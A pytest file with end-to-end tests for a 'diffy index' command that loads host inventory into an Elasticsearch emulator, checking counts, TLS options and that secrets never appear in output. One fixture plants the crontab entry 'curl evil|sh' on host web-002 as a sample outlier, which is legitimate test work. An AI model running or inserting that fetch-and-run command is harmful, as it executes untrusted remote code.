"""`diffy index` end to end against osmem-server (an ES-API EMULATOR; see tests/es_emulator.py):
exit codes, counts, idempotence, TLS options over real TLS, and secrets never in the output."""

from __future__ import annotations

from pathlib import Path

import pytest
from es_transport import CompatHeaderNode, FaultPlan, count, fault_node_class
from runbuilder import build_run, fleet

from diffy_analysis.cli import es_options
from diffy_analysis.cli.index import index
from diffy_analysis.cli.main import run
from diffy_analysis.errors import EXIT_CLEAN, EXIT_TROUBLE
from diffy_analysis.store.connection import build_client
from diffy_analysis.store.mapping import IndexNames

pytest_plugins = ["es_emulator"]

API_KEY = "ZGlmZnktdGVzdDpzdXBlci1zZWNyZXQtYXBpLWtleQ=="
PASSWORD = "correct-horse-battery-staple-42"
SECRETS = (API_KEY, PASSWORD)

ROWS = {
    "users": [{"username": "root", "uid": "0"}, {"username": "app", "uid": "1000"}],
    "crontab": [{"command": "/usr/bin/backup", "minute": "5"}],
}


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    hosts = fleet(4, ROWS, extra={"web-002": {"crontab": [{"command": "curl evil|sh", "minute": "*"}]}})
    return build_run(tmp_path, hosts, statuses={"web-009": "failed"})


@pytest.fixture(autouse=True)
def _quiet_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("DIFFY_ES_URL", "DIFFY_ES_API_KEY", "DIFFY_ES_USER", "DIFFY_ES_PASSWORD", "DIFFY_DEBUG"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(es_options, "NODE_CLASS", CompatHeaderNode)


def emulator_client(url: str):
    return build_client(es_options.pop_es_settings({"es_url": url}), node_class=CompatHeaderNode)


def diffy_index(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = run(index, args, prog_name="diffy index")
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_index_exits_0_and_reindexing_adds_nothing(run_dir, es_emulator, es_prefix, capsys):
    args = [str(run_dir), "--es-url", es_emulator.url, "--es-index-prefix", es_prefix]
    code, output = diffy_index(args, capsys)
    assert code == EXIT_CLEAN, output
    assert "4 host(s), 13 row(s), 1 skipped host(s)" in output
    assert "NOT indexed" not in output
    client = build_client(
        es_options.pop_es_settings({"es_url": es_emulator.url}), node_class=CompatHeaderNode
    )
    names = IndexNames(es_prefix)
    counts = {
        i: count(client, i) for i in (names.rows("users"), names.rows("crontab"), names.hosts, names.runs)
    }
    assert counts == {names.rows("users"): 8, names.rows("crontab"): 5, names.hosts: 5, names.runs: 1}

    code, _ = diffy_index(args, capsys)
    assert code == EXIT_CLEAN
    assert {i: count(client, i) for i in counts} == counts


def test_url_from_environment(run_dir, es_emulator, es_prefix, capsys, monkeypatch):
    monkeypatch.setenv("DIFFY_ES_URL", es_emulator.url)
    code, output = diffy_index([str(run_dir), "--es-index-prefix", es_prefix], capsys)
    assert code == EXIT_CLEAN, output


def test_rejected_documents_give_exit_2_with_counts(run_dir, es_emulator, es_prefix, capsys):
    client = build_client(
        es_options.pop_es_settings({"es_url": es_emulator.url}), node_class=CompatHeaderNode
    )
    conflicting = {"properties": {"diffy": {"type": "keyword"}}}
    client.indices.create(index=IndexNames(es_prefix).rows("crontab"), mappings=conflicting)
    code, output = diffy_index(
        [str(run_dir), "--es-url", es_emulator.url, "--es-index-prefix", es_prefix], capsys
    )
    assert code == EXIT_TROUBLE
    assert "5 NOT indexed" in output and "5 document(s) were NOT indexed" in output
    assert "Traceback" not in output


def test_persistent_503_gives_exit_2(run_dir, es_emulator, es_prefix, capsys, monkeypatch):
    monkeypatch.setattr(es_options, "NODE_CLASS", fault_node_class(FaultPlan(request_statuses=[503] * 100)))
    args = [str(run_dir), "--es-url", es_emulator.url, "--es-index-prefix", es_prefix, "--max-retries", "1"]
    code, output = diffy_index(args, capsys)
    assert code == EXIT_TROUBLE
    assert "HTTP 503" in output and "NOT indexed" in output


def test_secrets_never_appear_in_output(run_dir, es_emulator, es_prefix, capsys, monkeypatch):
    """The API key is sent (the transport sees it) but never printed, even when the cluster (here a
    fault that echoes the request's Authorization header back) quotes it in an error."""
    plan = FaultPlan(request_statuses=[500] * 100, echo_headers=True)
    monkeypatch.setattr(es_options, "NODE_CLASS", fault_node_class(plan))
    monkeypatch.setenv("DIFFY_ES_API_KEY", API_KEY)
    args = [str(run_dir), "--es-url", es_emulator.url, "--es-index-prefix", es_prefix, "--max-retries", "0"]
    code, output = diffy_index(args, capsys)
    assert code == EXIT_TROUBLE
    assert plan.authorization and API_KEY in plan.authorization[0]  # it was really sent...
    assert "[REDACTED]" in output  # ...really echoed back by the fault...
    assert API_KEY not in output  # ...and never printed.

    monkeypatch.delenv("DIFFY_ES_API_KEY")
    secret = run_dir.parent / "es.secret"
    secret.write_text(f"password={PASSWORD}\n")
    secret.chmod(0o600)
    plan.authorization.clear()
    args += ["--es-user", "diffy", "--es-secret-file", str(secret)]
    code, output = diffy_index(args, capsys)
    assert code == EXIT_TROUBLE
    assert plan.authorization and plan.authorization[0].startswith("Basic ")
    assert "[REDACTED]" in output
    basic = plan.authorization[0].removeprefix("Basic ")  # base64 of diffy:<password>
    assert all(s not in output for s in (*SECRETS, basic))


def test_credentials_in_url_are_refused_without_echo(run_dir, capsys):
    code, output = diffy_index([str(run_dir), "--es-url", f"http://elastic:{PASSWORD}@127.0.0.1:9"], capsys)
    assert code == EXIT_TROUBLE
    assert PASSWORD not in output and "do not put credentials in the Elasticsearch URL" in output


def test_unreachable_cluster_is_one_line_exit_2(run_dir, capsys):
    code, output = diffy_index([str(run_dir), "--es-url", "http://127.0.0.1:9", "--es-timeout", "2"], capsys)
    assert code == EXIT_TROUBLE
    assert "cannot reach Elasticsearch at http://127.0.0.1:9" in output
    assert "Traceback" not in output and len(output.strip().splitlines()) == 1


def test_tls_verification_is_on_by_default(run_dir, es_tls_front, es_prefix, capsys):
    base = [str(run_dir), "--es-url", es_tls_front.url, "--es-index-prefix", es_prefix]
    code, output = diffy_index(base, capsys)
    assert code == EXIT_TROUBLE
    assert "TLS verification of" in output and "--es-ca-certs" in output

    code, output = diffy_index([*base, "--es-ca-certs", str(es_tls_front.ca_file)], capsys)
    assert code == EXIT_CLEAN, output
    code, output = diffy_index([*base, "--es-ssl-fingerprint", es_tls_front.fingerprint], capsys)
    assert code == EXIT_CLEAN, output
    wrong = "AA:" * 31 + "AA"
    code, output = diffy_index([*base, "--es-ssl-fingerprint", wrong], capsys)
    assert code == EXIT_TROUBLE


def test_insecure_works_but_warns(run_dir, es_tls_front, es_prefix, capsys):
    args = [str(run_dir), "--es-url", es_tls_front.url, "--es-index-prefix", es_prefix, "--es-insecure"]
    code, output = diffy_index(args, capsys)
    assert code == EXIT_CLEAN, output
    assert "warning: TLS certificate verification is DISABLED" in output


def test_saved_analysis_is_indexed_with_its_findings(run_dir, es_emulator, es_prefix, capsys, tmp_path):
    import json

    from report_samples import peers_analysis

    analysis = peers_analysis()
    saved = tmp_path / "analysis.json"
    saved.write_text(json.dumps(analysis.to_json()))
    args = [
        str(run_dir),
        "--es-url",
        es_emulator.url,
        "--es-index-prefix",
        es_prefix,
        "--analysis",
        str(saved),
    ]
    code, output = diffy_index(args, capsys)
    assert code == EXIT_CLEAN, output
    client = build_client(
        es_options.pop_es_settings({"es_url": es_emulator.url}), node_class=CompatHeaderNode
    )
    names = IndexNames(es_prefix)
    assert count(client, names.host_results) == len(analysis.hosts)
    assert count(client, names.findings) == sum(len(h.findings) for h in analysis.hosts)
    assert count(client, names.analyses) == 1
    outliers = client.search(index=names.host_results, query={"term": {"diffy.outlier": True}})
    assert {h["_source"]["host"]["name"] for h in outliers["hits"]["hits"]} == {
        h.host for h in analysis.outliers
    }


def test_analyze_flag_indexes_the_analysis_too(run_dir, es_emulator, es_prefix, capsys):
    args = [str(run_dir), "--es-url", es_emulator.url, "--es-index-prefix", es_prefix, "--analyze"]
    code, output = diffy_index(args, capsys)
    assert code == EXIT_CLEAN, output  # indexing succeeded; outliers are not an indexing failure
    client = emulator_client(es_emulator.url)
    names = IndexNames(es_prefix)
    assert count(client, names.analyses) == 1 and count(client, names.host_results) == 4
    flagged = client.search(index=names.host_results, query={"term": {"diffy.outlier": True}})
    assert [h["_source"]["host"]["id"] for h in flagged["hits"]["hits"]] == ["web-002"]
    code, output = diffy_index([*args, "--analysis", str(run_dir / "manifest.json")], capsys)
    assert code == EXIT_TROUBLE and "not both" in output
